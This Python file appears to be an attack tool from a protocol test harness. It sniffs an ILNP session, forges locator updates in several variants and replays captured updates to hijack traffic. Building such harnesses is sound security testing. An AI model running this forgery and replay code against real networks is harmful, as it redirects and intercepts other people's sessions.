"""Forged locator updates (issue 11): a rogue sniffs a session between VICTIM and PEER
and tells PEER that VICTIM moved to the rogue's locator, in every way a LAN attacker
can, or captures genuine updates and replays them later.

    ilnp-attack forge-update VICTIM_NID PEER_NID --to LOC --kind sniffed-nonce
    ilnp-attack capture-updates VICTIM_NID PEER_NID --out updates.hex
    ilnp-attack replay updates.hex
"""
from __future__ import annotations

import json
import os

import click
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from actors.proto import ilnp, signature
from actors.proto.addr import AddressError, format64, parse64, parse_locator_set
from actors.proto.locator_update import TYPE_UPDATE, encode_update
from actors.proto.numbers import NH_LOCATOR_UPDATE

from .rogue import Rogue

KINDS = ("none", "wrong-nonce", "sniffed-nonce", "bogus-sig", "own-key-sig")
SEQ_JUMP = 1000  # "newer" than anything the victim has sent


def _nid(text: str) -> int:
    try:
        return parse64(text)
    except AddressError as exc:
        raise click.BadParameter(str(exc)) from None


def _session_filter(victim: int, peer: int):
    return lambda p, _opts: p.src_nid == victim and p.dst_nid == peer


def _observe(rogue: Rogue, victim: int, peer: int, timeout: float) -> dict:
    """What the LAN shows of the session: the victim's nonce, its last seq, where the peer is."""
    seen = {"nonce": None, "seq": None, "peer_loc": None, "victim_loc": None, "packets": 0}
    for _loc, _dgram, packet, opts in rogue.sniff(timeout, _session_filter(victim, peer)):
        seen["packets"] += 1
        seen["peer_loc"], seen["victim_loc"] = packet.dst_loc, packet.src_loc
        if opts:
            seen["nonce"] = opts.get("nonce") or seen["nonce"]
            if opts.get("seq") is not None:
                seen["seq"] = opts["seq"]
        if seen["nonce"] is not None and seen["packets"] >= 3:
            break
    return seen


def forged_update(kind: str, victim: int, peer: int, peer_loc: int, to: int, seen: dict) -> bytes:
    body = encode_update([to])
    seq = ((seen["seq"] or 0) + SEQ_JUMP) % (1 << 32)
    sniffed = seen["nonce"]
    opts = {"none": None,
            "wrong-nonce": {"nonce": os.urandom(12), "seq": seq},
            "sniffed-nonce": {"nonce": sniffed, "seq": seq},
            "bogus-sig": {"nonce": sniffed, "seq": seq, "sig": os.urandom(96)},
            "own-key-sig": {"nonce": sniffed, "seq": seq,
                            "sig": signature.Signer(Ed25519PrivateKey.generate()).sign(
                                victim, peer, seq, sniffed, body)}}[kind]
    return ilnp.encode_with_opts(to, victim, peer_loc, peer, NH_LOCATOR_UPDATE, body, 3, opts)


@click.command("forge-update")
@click.argument("victim", type=_nid)
@click.argument("peer", type=_nid)
@click.option("--to", "to", required=True, help="The rogue's locator the session should move to.")
@click.option("--kind", type=click.Choice(KINDS), required=True)
@click.option("--listen", default="0:0:0:a,0:0:0:b,0:0:0:c", show_default=True,
              help="Locators whose groups the rogue listens on to sniff the session.")
@click.option("--sniff-time", default=5.0, show_default=True, help="Seconds to watch the session.")
@click.option("--copies", default=3, show_default=True, help="Forged packets to send.")
@click.option("--nonce", "nonce_hex", default=None, help="A nonce sniffed earlier (hex), e.g. by capture-updates.")
@click.option("--seq", type=int, default=None, help="The victim's last sequence number seen earlier.")
@click.option("--peer-loc", default=None, help="The peer's locator, when the session is quiet (discovery tells it).")
@click.pass_obj
def forge_update(obj, victim, peer, to, kind, listen, sniff_time, copies, nonce_hex, seq, peer_loc):
    """Tell PEER that VICTIM moved to --to, forged in the way --kind says."""
    try:
        to_loc, listen_locs = parse64(to), parse_locator_set(listen)
        earlier = bytes.fromhex(nonce_hex) if nonce_hex else None
        given_loc = parse64(peer_loc) if peer_loc else None
    except (AddressError, ValueError) as exc:
        raise click.BadParameter(str(exc)) from None
    rogue = obj.rogue()
    rogue.listen(listen_locs)
    seen = _observe(rogue, victim, peer, sniff_time)
    seen["nonce"] = seen["nonce"] or earlier
    seen["peer_loc"] = seen["peer_loc"] or given_loc
    if seq is not None and seen["seq"] is None:
        seen["seq"] = seq
    if seen["peer_loc"] is None:
        raise click.ClickException(f"no packet from {format64(victim)} to {format64(peer)} in {sniff_time}s")
    datagram = forged_update(kind, victim, peer, seen["peer_loc"], to_loc, seen)
    rogue.send(seen["peer_loc"], datagram, copies)
    click.echo(json.dumps({"kind": kind, "sent": rogue.sent, "peer_loc": format64(seen["peer_loc"]),
                           "nonce": seen["nonce"].hex() if seen["nonce"] else None, "seq": seen["seq"]}))


@click.command("capture-updates")
@click.argument("victim", type=_nid)
@click.argument("peer", type=_nid)
@click.option("--out", "out", type=click.Path(dir_okay=False, writable=True), required=True)
@click.option("--listen", default="0:0:0:a,0:0:0:b,0:0:0:c", show_default=True)
@click.option("--time", "seconds", default=10.0, show_default=True, help="Seconds to listen.")
@click.option("--count", default=1, show_default=True, help="Stop after this many updates.")
@click.pass_obj
def capture_updates(obj, victim, peer, out, listen, seconds, count):
    """Save VICTIM's genuine locator updates to PEER (one hex datagram per line, with its locator)."""
    rogue = obj.rogue()
    rogue.listen(parse_locator_set(listen))
    click.echo(json.dumps({"ready": True}), err=True)  # listening: a script may start the victim's move
    got, nonce, seq = [], None, None
    keep = _session_filter(victim, peer)
    for loc, datagram, packet, opts in rogue.sniff(seconds, keep):
        if packet.next_header == NH_LOCATOR_UPDATE and packet.payload[:1] == bytes((TYPE_UPDATE,)):
            got.append(f"{format64(packet.dst_loc)} {datagram.hex()}")
            if opts:
                nonce, seq = opts.get("nonce"), opts.get("seq")
            if len(got) >= count:
                break
    with open(out, "w") as fh:
        fh.write("".join(line + "\n" for line in got))
    click.echo(json.dumps({"captured": len(got), "nonce": nonce.hex() if nonce else None, "seq": seq}))
    if not got:
        raise click.ClickException("no locator update captured")


@click.command("replay")
@click.argument("capture", type=click.Path(exists=True, dir_okay=False))
@click.option("--copies", default=3, show_default=True)
@click.pass_obj
def replay(obj, capture, copies):
    """Send captured datagrams again, byte for byte, to the locator each was sent to."""
    rogue = obj.rogue()
    for line in open(capture).read().split("\n"):
        if line.strip():
            loc, hexdata = line.split()
            rogue.send(parse64(loc), bytes.fromhex(hexdata), copies)
    click.echo(json.dumps({"sent": rogue.sent}))
